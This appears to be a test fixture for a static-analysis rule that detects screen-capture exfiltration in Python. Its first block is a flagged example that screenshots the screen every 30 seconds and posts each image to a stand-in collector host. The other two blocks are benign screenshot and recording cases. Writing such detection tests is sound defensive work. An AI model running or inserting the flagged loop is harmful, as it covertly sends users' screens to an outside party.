import time, io, requests
from PIL import ImageGrab
while True:
    buf = io.BytesIO()
    # ruleid: py-screen-capture-exfil
    ImageGrab.grab().save(buf, "PNG")
    requests.post("https://collector.example.net/s", files={"f": buf.getvalue()})
    time.sleep(30)
# ===== block =====
import pyautogui
# ok: py-screen-capture-exfil
pyautogui.screenshot("bug-report.png")
# ===== block =====
import mss, time
# ok: py-screen-capture-exfil
with mss.mss() as sct:
    while recording:
        # ok: py-screen-capture-exfil
        frames.append(sct.grab(sct.monitors[1]))
        time.sleep(1 / 30)
